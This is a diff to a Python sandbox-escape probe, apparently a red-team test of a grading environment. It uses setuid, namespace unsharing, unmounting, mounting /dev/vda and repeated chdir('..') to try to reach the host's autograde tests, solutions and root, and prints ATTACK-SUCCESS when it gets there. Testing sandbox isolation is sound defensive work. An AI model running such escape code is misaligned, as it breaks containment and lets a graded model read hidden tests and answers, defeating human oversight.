@@ -6,12 +6,15 @@ machine is reached.
 import ctypes
 import os
 
+import grader  # mounted where it lives on the host, so this is the checkout's real path
+PROJECT = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))
+
 libc = ctypes.CDLL(None, use_errno=True)
 libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]
 
 
 def visible():
-    return any(os.path.exists(p) for p in ["/work/main/autograde_tests", "/work/main/solutions", "/.old"])
+    return any(os.path.exists(p) for p in [PROJECT + "/autograde_tests", PROJECT + "/solutions", "/.old"])
 
 
 libc.setuid(0)
@@ -27,7 +30,7 @@ if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
         open("/proc/self/gid_map", "w").write(f"0 {uid} 1")
     except OSError:
         pass
-    for target in [b"/tmp", b"/work/main", b"/root", b"/"]:
+    for target in [b"/tmp", PROJECT.encode(), b"/root", b"/"]:
         libc.umount2(target, 2)
     libc.mount(b"/dev/vda", b"/tmp", b"ext4", 1, None)
     for _ in range(3):
@@ -35,6 +38,6 @@ if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
         os.chdir("..")
 if visible():
     print("ATTACK-SUCCESS: the project is visible")
-if os.geteuid() == 0 and uid != 0 and os.path.exists("/proc/1/root/work/main/autograde_tests"):
+if os.geteuid() == 0 and uid != 0 and os.path.exists("/proc/1/root" + PROJECT + "/autograde_tests"):
     print("ATTACK-SUCCESS: root")
 print("ATTACK-DONE")
